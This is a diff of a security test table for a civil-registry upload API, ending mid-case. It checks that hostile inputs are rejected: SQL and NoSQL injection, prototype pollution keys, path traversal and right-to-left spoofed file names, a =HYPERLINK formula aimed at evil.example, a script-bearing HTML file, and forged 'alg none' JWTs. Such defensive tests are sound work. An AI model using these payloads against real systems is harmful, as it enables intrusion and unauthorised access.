-  { category: 'pdf', name: 'encrypted PDF (single upload)', kind: 'scans', fileName: '1-2018.pdf', contentType: 'application/pdf', file: async (w) => encryptedPdf(w.pdf), expect: { entry: '1-2018.pdf', reason: 'ENCRYPTED_PDF' } },
-  { category: 'pdf', name: 'a zip named .pdf (single upload)', kind: 'scans', fileName: '1-2018.pdf', contentType: 'application/pdf', file: async (w) => zipOf([{ name: '1-2018.pdf', data: w.pdf }]), expect: { entry: '1-2018.pdf', reason: 'NESTED_ARCHIVE' } },
-  { category: 'pdf', name: 'PDF header followed by garbage', kind: 'scans', fileName: '1-2018.pdf', contentType: 'application/pdf', file: async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(2000)]), expect: { entry: '1-2018.pdf', reason: 'CORRUPT_PDF' } },
-  { category: 'pdf', name: 'zero-byte PDF inside a zip', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async () => zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(0) }]), expect: { entry: '1-2018.pdf', reason: 'EMPTY_FILE' } },
-  { category: 'pdf', name: 'a PDF without the .pdf extension inside a zip (.exe)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => zipOf([{ name: '1-2018.exe', data: w.pdf }]), expect: { entry: '1-2018.exe', reason: 'WRONG_EXTENSION' } },
+  {
+    category: 'pdf',
+    name: 'JPEG named .pdf (single upload)',
+    kind: 'scans',
+    fileName: '1-2018.pdf',
+    contentType: 'application/pdf',
+    file: async () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 2, 3, 4, 5]),
+    expect: { entry: '1-2018.pdf', reason: 'NOT_PDF' },
+  },
+  {
+    category: 'pdf',
+    name: 'HTML named .pdf (single upload)',
+    kind: 'scans',
+    fileName: '1-2018.pdf',
+    contentType: 'application/pdf',
+    file: async () => Buffer.from('<html><script>alert(1)</script></html>'),
+    expect: { entry: '1-2018.pdf', reason: 'NOT_PDF' },
+  },
+  {
+    category: 'pdf',
+    name: 'truncated PDF (single upload)',
+    kind: 'scans',
+    fileName: '1-2018.pdf',
+    contentType: 'application/pdf',
+    file: async (w) => w.pdf.subarray(0, w.pdf.length - 40),
+    expect: { entry: '1-2018.pdf', reason: 'CORRUPT_PDF' },
+  },
+  {
+    category: 'pdf',
+    name: 'encrypted PDF (single upload)',
+    kind: 'scans',
+    fileName: '1-2018.pdf',
+    contentType: 'application/pdf',
+    file: async (w) => encryptedPdf(w.pdf),
+    expect: { entry: '1-2018.pdf', reason: 'ENCRYPTED_PDF' },
+  },
+  {
+    category: 'pdf',
+    name: 'a zip named .pdf (single upload)',
+    kind: 'scans',
+    fileName: '1-2018.pdf',
+    contentType: 'application/pdf',
+    file: async (w) => zipOf([{ name: '1-2018.pdf', data: w.pdf }]),
+    expect: { entry: '1-2018.pdf', reason: 'NESTED_ARCHIVE' },
+  },
+  {
+    category: 'pdf',
+    name: 'PDF header followed by garbage',
+    kind: 'scans',
+    fileName: '1-2018.pdf',
+    contentType: 'application/pdf',
+    file: async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(2000)]),
+    expect: { entry: '1-2018.pdf', reason: 'CORRUPT_PDF' },
+  },
+  {
+    category: 'pdf',
+    name: 'zero-byte PDF inside a zip',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async () => zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(0) }]),
+    expect: { entry: '1-2018.pdf', reason: 'EMPTY_FILE' },
+  },
+  {
+    category: 'pdf',
+    name: 'a PDF without the .pdf extension inside a zip (.exe)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => zipOf([{ name: '1-2018.exe', data: w.pdf }]),
+    expect: { entry: '1-2018.exe', reason: 'WRONG_EXTENSION' },
+  },
 
   // ---------------- JSON bodies
-  { category: 'json', name: 'malformed JSON', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":'), expect: invalid('body', 'Nội dung JSON không đọc được') },
-  { category: 'json', name: '__proto__ key (prototype pollution)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":"returnToEntry","__proto__":{"role":"admin"}}'), expect: invalid('body') },
-  { category: 'json', name: 'constructor.prototype keys (prototype pollution)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a.xlsx', contentType: XLSX, size: 10, constructor: { prototype: { polluted: true } } })), expect: invalid('body') },
+  {
+    category: 'json',
+    name: 'malformed JSON',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":'),
+    expect: invalid('body', 'Nội dung JSON không đọc được'),
+  },
+  {
+    category: 'json',
+    name: '__proto__ key (prototype pollution)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":"returnToEntry","__proto__":{"role":"admin"}}'),
+    expect: invalid('body'),
+  },
+  {
+    category: 'json',
+    name: 'constructor.prototype keys (prototype pollution)',
+    book: 'entry',
+    request: (w) =>
+      jsonBody(
+        w,
+        'POST',
+        `${B(w)}/uploads`,
+        JSON.stringify({ kind: 'entry', fileName: 'a.xlsx', contentType: XLSX, size: 10, constructor: { prototype: { polluted: true } } }),
+      ),
+    expect: invalid('body'),
+  },
   {
     category: 'json',
     name: '__proto__ as a column of a legacy mapping',
     book: 'entry',
-    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, `{"kind":"entry","fileName":"a.xlsx","contentType":"${XLSX}","size":10,"legacyMapping":{"source":"MISA","registerType":"KS","columns":{"__proto__":"nksHoTen","Họ tên":"nksHoTen"}}}`),
+    request: (w) =>
+      jsonBody(
+        w,
+        'POST',
+        `${B(w)}/uploads`,
+        `{"kind":"entry","fileName":"a.xlsx","contentType":"${XLSX}","size":10,"legacyMapping":{"source":"MISA","registerType":"KS","columns":{"__proto__":"nksHoTen","Họ tên":"nksHoTen"}}}`,
+      ),
     expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'legacyMapping.columns' },
   },
-  { category: 'json', name: 'wrong type: action is a number', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":123}'), expect: invalid('body.action') },
-  { category: 'json', name: 'wrong type: body is an array', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '[{"action":"startDigitisation"}]'), expect: invalid('body') },
-  { category: 'json', name: 'wrong type: body is null', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, 'null'), expect: invalid('body') },
-  { category: 'json', name: 'NoSQL-style operator object instead of a string', book: 'entry', request: (w) => jsonBody(w, 'POST', '/books', JSON.stringify({ unitCode: { $ne: null }, registerType: 'KS', quyenSo: '1/2018', yearOpened: 2018, pageCount: 10, closingTotal: 1, physicalCondition: 'worn', custodyLocation: 'kho' })), expect: invalid('body.unitCode') },
-  { category: 'json', name: 'SQL injection in the volume number', book: 'entry', request: (w) => jsonBody(w, 'POST', '/books', JSON.stringify({ unitCode: '90101', registerType: 'KS', quyenSo: "1/2018' OR '1'='1", yearOpened: 2018, pageCount: 10, closingTotal: 1, physicalCondition: 'worn', custodyLocation: 'kho' })), expect: invalid('body.quyenSo') },
-  { category: 'json', name: 'huge and negative numbers (pageCount 1e308, yearOpened -1)', book: 'entry', request: (w) => jsonBody(w, 'POST', '/books', JSON.stringify({ unitCode: '90101', registerType: 'KS', quyenSo: '7/2018', yearOpened: -1, pageCount: 1e308, closingTotal: 1, physicalCondition: 'worn', custodyLocation: 'kho' })), expect: invalid('body.yearOpened') },
-  { category: 'json', name: 'deep nesting (10,000 levels)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`), expect: invalid('body') },
-  { category: 'json', name: 'deep nesting inside a free-form field (legacyMapping, 40 levels)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, `{"kind":"entry","fileName":"a.xlsx","contentType":"${XLSX}","size":10,"legacyMapping":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}`), expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'legacyMapping.source' } },
-  { category: 'json', name: 'oversized body (100 kB)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(100_000) })), expect: invalid('body', 'Nội dung quá lớn') },
-  { category: 'json', name: 'reason longer than allowed (1,001 characters)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(1001) })), expect: invalid('body.reason') },
-  { category: 'json', name: 'file name with path traversal ../../a.xlsx', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: '../../a.xlsx', contentType: XLSX, size: 10 })), expect: invalid('body.fileName') },
-  { category: 'json', name: 'file name with a NUL byte', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a\u0000.xlsx', contentType: XLSX, size: 10 })), expect: invalid('body.fileName') },
-  { category: 'json', name: 'file name with a right-to-left override (xlsx.exe spoof)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'so\u202Eexe.xlsx', contentType: XLSX, size: 10 })), expect: invalid('body.fileName') },
-  { category: 'json', name: 'declared size over the limit (1 TB)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a.xlsx', contentType: XLSX, size: 1e12 })), expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'size' } },
-  { category: 'json', name: 'scan delivery declared over 5 GB (multipart)', book: 'scan', request: async (w) => raw(w, 'POST', `${S(w)}/uploads`, { token: await tokenOf('scan.binhan'), headers: { 'content-type': 'application/json' }, body: JSON.stringify({ kind: 'scans', fileName: 'so.zip', contentType: 'application/zip', size: 6 * 1024 ** 3, multipart: true }) }), expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'size' } },
-  { category: 'json', name: 'wrong type: multipart as a string', book: 'scan', request: async (w) => raw(w, 'POST', `${S(w)}/uploads`, { token: await tokenOf('scan.binhan'), headers: { 'content-type': 'application/json' }, body: JSON.stringify({ kind: 'scans', fileName: 'so.zip', contentType: 'application/zip', size: 100, multipart: 'yes' }) }), expect: invalid('body.multipart') },
-  { category: 'json', name: 'record review with version as a string', book: 'scan', request: (w) => raw(w, 'PATCH', `${S(w)}/records/1-2018`, { headers: { 'content-type': 'application/json' }, body: '{"version":"1","status":"ok"}' }), expect: invalid('body') },
+  {
+    category: 'json',
+    name: 'wrong type: action is a number',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":123}'),
+    expect: invalid('body.action'),
+  },
+  {
+    category: 'json',
+    name: 'wrong type: body is an array',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '[{"action":"startDigitisation"}]'),
+    expect: invalid('body'),
+  },
+  {
+    category: 'json',
+    name: 'wrong type: body is null',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, 'null'),
+    expect: invalid('body'),
+  },
+  {
+    category: 'json',
+    name: 'NoSQL-style operator object instead of a string',
+    book: 'entry',
+    request: (w) =>
+      jsonBody(
+        w,
+        'POST',
+        '/books',
+        JSON.stringify({
+          unitCode: { $ne: null },
+          registerType: 'KS',
+          quyenSo: '1/2018',
+          yearOpened: 2018,
+          pageCount: 10,
+          closingTotal: 1,
+          physicalCondition: 'worn',
+          custodyLocation: 'kho',
+        }),
+      ),
+    expect: invalid('body.unitCode'),
+  },
+  {
+    category: 'json',
+    name: 'SQL injection in the volume number',
+    book: 'entry',
+    request: (w) =>
+      jsonBody(
+        w,
+        'POST',
+        '/books',
+        JSON.stringify({
+          unitCode: '90101',
+          registerType: 'KS',
+          quyenSo: "1/2018' OR '1'='1",
+          yearOpened: 2018,
+          pageCount: 10,
+          closingTotal: 1,
+          physicalCondition: 'worn',
+          custodyLocation: 'kho',
+        }),
+      ),
+    expect: invalid('body.quyenSo'),
+  },
+  {
+    category: 'json',
+    name: 'huge and negative numbers (pageCount 1e308, yearOpened -1)',
+    book: 'entry',
+    request: (w) =>
+      jsonBody(
+        w,
+        'POST',
+        '/books',
+        JSON.stringify({
+          unitCode: '90101',
+          registerType: 'KS',
+          quyenSo: '7/2018',
+          yearOpened: -1,
+          pageCount: 1e308,
+          closingTotal: 1,
+          physicalCondition: 'worn',
+          custodyLocation: 'kho',
+        }),
+      ),
+    expect: invalid('body.yearOpened'),
+  },
+  {
+    category: 'json',
+    name: 'deep nesting (10,000 levels)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`),
+    expect: invalid('body'),
+  },
+  {
+    category: 'json',
+    name: 'deep nesting inside a free-form field (legacyMapping, 40 levels)',
+    book: 'entry',
+    request: (w) =>
+      jsonBody(
+        w,
+        'POST',
+        `${B(w)}/uploads`,
+        `{"kind":"entry","fileName":"a.xlsx","contentType":"${XLSX}","size":10,"legacyMapping":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}`,
+      ),
+    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'legacyMapping.source' },
+  },
+  {
+    category: 'json',
+    name: 'oversized body (100 kB)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(100_000) })),
+    expect: invalid('body', 'Nội dung quá lớn'),
+  },
+  {
+    category: 'json',
+    name: 'reason longer than allowed (1,001 characters)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(1001) })),
+    expect: invalid('body.reason'),
+  },
+  {
+    category: 'json',
+    name: 'file name with path traversal ../../a.xlsx',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: '../../a.xlsx', contentType: XLSX, size: 10 })),
+    expect: invalid('body.fileName'),
+  },
+  {
+    category: 'json',
+    name: 'file name with a NUL byte',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a\u0000.xlsx', contentType: XLSX, size: 10 })),
+    expect: invalid('body.fileName'),
+  },
+  {
+    category: 'json',
+    name: 'file name with a right-to-left override (xlsx.exe spoof)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'so\u202Eexe.xlsx', contentType: XLSX, size: 10 })),
+    expect: invalid('body.fileName'),
+  },
+  {
+    category: 'json',
+    name: 'declared size over the limit (1 TB)',
+    book: 'entry',
+    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a.xlsx', contentType: XLSX, size: 1e12 })),
+    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'size' },
+  },
+  {
+    category: 'json',
+    name: 'scan delivery declared over 5 GB (multipart)',
+    book: 'scan',
+    request: async (w) =>
+      raw(w, 'POST', `${S(w)}/uploads`, {
+        token: await tokenOf('scan.binhan'),
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ kind: 'scans', fileName: 'so.zip', contentType: 'application/zip', size: 6 * 1024 ** 3, multipart: true }),
+      }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'size' },
+  },
+  {
+    category: 'json',
+    name: 'wrong type: multipart as a string',
+    book: 'scan',
+    request: async (w) =>
+      raw(w, 'POST', `${S(w)}/uploads`, {
+        token: await tokenOf('scan.binhan'),
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ kind: 'scans', fileName: 'so.zip', contentType: 'application/zip', size: 100, multipart: 'yes' }),
+      }),
+    expect: invalid('body.multipart'),
+  },
+  {
+    category: 'json',
+    name: 'record review with version as a string',
+    book: 'scan',
+    request: (w) => raw(w, 'PATCH', `${S(w)}/records/1-2018`, { headers: { 'content-type': 'application/json' }, body: '{"version":"1","status":"ok"}' }),
+    expect: invalid('body'),
+  },
 
-  { category: 'json', name: 'correction of the field "constructor" (inherited, not a column)', book: 'review', request: (w) => correct(w, { corrections: [{ field: 'constructor', value: 'x', reason: 'TYPO' }] }), expect: { status: 400, error: 'InvalidInput', message: 'Trường không có trong mẫu của sổ', issue: 'corrections.constructor' } },
-  { category: 'json', name: 'correction of the field "__proto__"', book: 'review', request: (w) => correct(w, { corrections: [{ field: '__proto__', value: 'x', reason: 'TYPO' }] }), expect: { status: 400, error: 'InvalidInput', message: 'Trường không có trong mẫu của sổ', issue: 'corrections.__proto__' } },
-  { category: 'json', name: 'correction value with formula injection =HYPERLINK(…)', book: 'review', request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: '=HYPERLINK("http://evil.example","x")', reason: 'TYPO' }] }), expect: { status: 400, error: 'InvalidInput', message: 'Giá trị sửa không hợp lệ', issue: 'corrections.nksHoTen' } },
-  { category: 'json', name: 'correction value with a right-to-left override', book: 'review', request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: 'Nguyễn \u202Ena Vnăv', reason: 'TYPO' }] }), expect: { status: 400, error: 'InvalidInput', message: 'Giá trị sửa không hợp lệ', issue: 'corrections.nksHoTen' } },
-  { category: 'json', name: 'correction with an unknown reason', book: 'review', request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: 'Nguyễn Văn An', reason: '__proto__' }] }), expect: invalid('body') },
-  { category: 'json', name: 'too many corrections (81)', book: 'review', request: (w) => correct(w, { corrections: Array.from({ length: 81 }, () => ({ field: 'nksHoTen', value: 'A', reason: 'TYPO' })) }), expect: invalid('body') },
-  { category: 'json', name: 'review policy with a huge sample percent', book: 'entry', request: (w) => raw(w, 'PUT', '/units/90101/review-policy', { headers: { 'content-type': 'application/json' }, body: '{"mode":"adaptive","samplePercent":1e308}' }), expect: invalid('body.samplePercent') },
-  { category: 'json', name: 'weekly run for a unit with injection characters', book: 'entry', request: async (w) => raw(w, 'POST', '/reports/weekly/run', { token: await tokenOf('vanhanh'), headers: { 'content-type': 'application/json' }, body: JSON.stringify({ unit: "9'<x>" }) }), expect: invalid('body.unit') },
-  { category: 'json', name: 'weekly run for a unit that does not exist', book: 'entry', request: async (w) => raw(w, 'POST', '/reports/weekly/run', { token: await tokenOf('vanhanh'), headers: { 'content-type': 'application/json' }, body: JSON.stringify({ unit: '99999' }) }), expect: { status: 400, error: 'InvalidInput', message: 'Không có đơn vị lập báo cáo tuần với mã này', issue: 'body.unit' } },
-  { category: 'json', name: 'weekly run for week 53 of a 52-week year', book: 'entry', request: async (w) => raw(w, 'POST', '/reports/weekly/run', { token: await tokenOf('vanhanh'), headers: { 'content-type': 'application/json' }, body: JSON.stringify({ week: '2025-W53' }) }), expect: invalid('body.week') },
+  {
+    category: 'json',
+    name: 'correction of the field "constructor" (inherited, not a column)',
+    book: 'review',
+    request: (w) => correct(w, { corrections: [{ field: 'constructor', value: 'x', reason: 'TYPO' }] }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Trường không có trong mẫu của sổ', issue: 'corrections.constructor' },
+  },
+  {
+    category: 'json',
+    name: 'correction of the field "__proto__"',
+    book: 'review',
+    request: (w) => correct(w, { corrections: [{ field: '__proto__', value: 'x', reason: 'TYPO' }] }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Trường không có trong mẫu của sổ', issue: 'corrections.__proto__' },
+  },
+  {
+    category: 'json',
+    name: 'correction value with formula injection =HYPERLINK(…)',
+    book: 'review',
+    request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: '=HYPERLINK("http://evil.example","x")', reason: 'TYPO' }] }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Giá trị sửa không hợp lệ', issue: 'corrections.nksHoTen' },
+  },
+  {
+    category: 'json',
+    name: 'correction value with a right-to-left override',
+    book: 'review',
+    request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: 'Nguyễn \u202Ena Vnăv', reason: 'TYPO' }] }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Giá trị sửa không hợp lệ', issue: 'corrections.nksHoTen' },
+  },
+  {
+    category: 'json',
+    name: 'correction with an unknown reason',
+    book: 'review',
+    request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: 'Nguyễn Văn An', reason: '__proto__' }] }),
+    expect: invalid('body'),
+  },
+  {
+    category: 'json',
+    name: 'too many corrections (81)',
+    book: 'review',
+    request: (w) => correct(w, { corrections: Array.from({ length: 81 }, () => ({ field: 'nksHoTen', value: 'A', reason: 'TYPO' })) }),
+    expect: invalid('body'),
+  },
+  {
+    category: 'json',
+    name: 'review policy with a huge sample percent',
+    book: 'entry',
+    request: (w) =>
+      raw(w, 'PUT', '/units/90101/review-policy', { headers: { 'content-type': 'application/json' }, body: '{"mode":"adaptive","samplePercent":1e308}' }),
+    expect: invalid('body.samplePercent'),
+  },
+  {
+    category: 'json',
+    name: 'weekly run for a unit with injection characters',
+    book: 'entry',
+    request: async (w) =>
+      raw(w, 'POST', '/reports/weekly/run', {
+        token: await tokenOf('vanhanh'),
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ unit: "9'<x>" }),
+      }),
+    expect: invalid('body.unit'),
+  },
+  {
+    category: 'json',
+    name: 'weekly run for a unit that does not exist',
+    book: 'entry',
+    request: async (w) =>
+      raw(w, 'POST', '/reports/weekly/run', {
+        token: await tokenOf('vanhanh'),
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ unit: '99999' }),
+      }),
+    expect: { status: 400, error: 'InvalidInput', message: 'Không có đơn vị lập báo cáo tuần với mã này', issue: 'body.unit' },
+  },
+  {
+    category: 'json',
+    name: 'weekly run for week 53 of a 52-week year',
+    book: 'entry',
+    request: async (w) =>
+      raw(w, 'POST', '/reports/weekly/run', {
+        token: await tokenOf('vanhanh'),
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ week: '2025-W53' }),
+      }),
+    expect: invalid('body.week'),
+  },
 
   // ---------------- headers
   { category: 'headers', name: 'no Authorization header', book: 'entry', request: (w) => raw(w, 'GET', B(w), { token: null }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'Authorization with the Basic scheme', book: 'entry', request: (w) => raw(w, 'GET', B(w), { token: null, headers: { authorization: 'Basic aG90aWNoOmFkbWlu' } }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'Bearer with a malformed token', book: 'entry', request: (w) => raw(w, 'GET', B(w), { token: 'not.a.jwt' }), expect: GATEWAY_401 },
+  {
+    category: 'headers',
+    name: 'Authorization with the Basic scheme',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', B(w), { token: null, headers: { authorization: 'Basic aG90aWNoOmFkbWlu' } }),
+    expect: GATEWAY_401,
+  },
+  {
+    category: 'headers',
+    name: 'Bearer with a malformed token',
+    book: 'entry',
+    request: (w) => raw(w, 'GET', B(w), { token: 'not.a.jwt' }),
+    expect: GATEWAY_401,
+  },
   {
     category: 'headers',
     name: 'forged JWT with alg "none"',
     book: 'entry',
-    request: (w) => raw(w, 'GET', B(w), { token: `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url({ sub: 'x', 'cognito:groups': ['admin'], 'custom:unit': 'VN', iss: 'urn:hotich:local', aud: 'hotich-local-web', exp: 9_999_999_999 })}.` }),
+    request: (w) =>
+      raw(w, 'GET', B(w), {
+        token: `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url({ sub: 'x', 'cognito:groups': ['admin'], 'custom:unit': 'VN', iss: 'urn:hotich:local', aud: 'hotich-local-web', exp: 9_999_999_999 })}.`,
+      }),
     expect: GATEWAY_401,
   },
-  { category: 'headers', name: 'JWT signed with another key', book: 'entry', request: async (w) => raw(w, 'GET', B(w), { token: await forged(randomBytes(32)) }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'expired JWT (right key)', book: 'entry', request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { expired: true }) }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'JWT for another audience (right key)', book: 'entry', request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { audience: 'other-app' }) }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'JWT from another issuer (right key)', book: 'entry', request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { issuer: 'https://evil.example' }) }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'JWT with another algorithm (HS512, right key)', book: 'entry', request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { alg: 'HS512' }) }), expect: GATEWAY_401 },
+  {
+    category: 'headers',
+    name: 'JWT signed with another key',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', B(w), { token: await forged(randomBytes(32)) }),
+    expect: GATEWAY_401,
+  },
+  {
+    category: 'headers',
+    name: 'expired JWT (right key)',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { expired: true }) }),
+    expect: GATEWAY_401,
+  },
+  {
+    category: 'headers',
+    name: 'JWT for another audience (right key)',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { audience: 'other-app' }) }),
+    expect: GATEWAY_401,
+  },
+  {
+    category: 'headers',
+    name: 'JWT from another issuer (right key)',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { issuer: 'https://evil.example' }) }),
+    expect: GATEWAY_401,
+  },
+  {
+    category: 'headers',
+    name: 'JWT with another algorithm (HS512, right key)',
+    book: 'entry',
+    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { alg: 'HS512' }) }),
+    expect: GATEWAY_401,
+  },
   {
     category: 'headers',
     name: 'valid signature, group claim "__proto__" (no known role)',
@@ -375,36 +1104,178 @@ const cases: Case[] = [
     request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { claims: { 'cognito:groups': ['__proto__', 'superadmin'] } }) }),
     expect: { status: 401, error: 'Unauthenticated', message: 'Thông tin đăng nhập không đầy đủ' },
   },
-  { category: 'headers', name: 'Content-Type text/plain with a JSON body', book: 'entry', request: (w) => raw(w, 'POST', `${B(w)}/actions`, { headers: { 'content-type': 'text/plain' }, body: '{"action":"returnToEntry"}' }), expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)') },
-  { category: 'headers', name: 'no Content-Type on a JSON body', book: 'entry', request: (w) => raw(w, 'POST', `${B(w)}/actions`, { body: '{"action":"returnToEntry"}' }), expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)') },
-  { category: 'headers', name: 'multipart/form-data instead of JSON', book: 'entry', request: (w) => raw(w, 'POST', `${B(w)}/actions`, { headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x\r\nContent-Disposition: form-data; name="action"\r\n\r\nreturnToEntry\r\n--x--' }), expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)') },
-  { category: 'headers', name: 'JSON sent as UTF-16 (charset=utf-16)', book: 'entry', request: (w) => raw(w, 'POST', `${B(w)}/actions`, { headers: { 'content-type': 'application/json; charset=utf-16' }, body: Buffer.from('{"action":"returnToEntry"}', 'utf16le') }), expect: invalid('body', 'Nội dung JSON không đọc được') },
-  { category: 'headers', name: 'Authorization with two tokens', book: 'entry', request: async (w) => raw(w, 'GET', B(w), { token: null, headers: { authorization: `Bearer ${await tokenOf('hotich.binhan')} ${await tokenOf('vanhanh')}` } }), expect: GATEWAY_401 },
-  { category: 'headers', name: 'body over the API Gateway limit (11 MB)', book: 'entry', request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(11 * 1024 * 1024) })), expect: { status: 413, message: 'Request Entity Too Large' } },
+  {
+    category: 'headers',
+    name: 'Content-Type text/plain with a JSON body',
+    book: 'entry',
+    request: (w) => raw(w, 'POST', `${B(w)}/actions`, { headers: { 'content-type': 'text/plain' }, body: '{"action":"returnToEntry"}' }),
+    expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)'),
+  },
+  {
+    category: 'headers',
+    name: 'no Content-Type on a JSON body',
+    book: 'entry',
+    request: (w) => raw(w, 'POST', `${B(w)}/actions`, { body: '{"action":"returnToEntry"}' }),
+    expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)'),
+  },
+  {
+    category: 'headers',
+    name: 'multipart/form-data instead of JSON',
+    book: 'entry',
+    request: (w) =>
+      raw(w, 'POST', `${B(w)}/actions`, {
+        headers: { 'content-type': 'multipart/form-data; boundary=x' },
+        body: '--x\r\nContent-Disposition: form-data; name="action"\r\n\r\nreturnToEntry\r\n--x--',
+      }),
+    expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)'),
+  },
+  {
+    category: 'headers',
+    name: 'JSON sent as UTF-16 (charset=utf-16)',
+    book: 'entry',
+    request: (w) =>
+      raw(w, 'POST', `${B(w)}/actions`, {
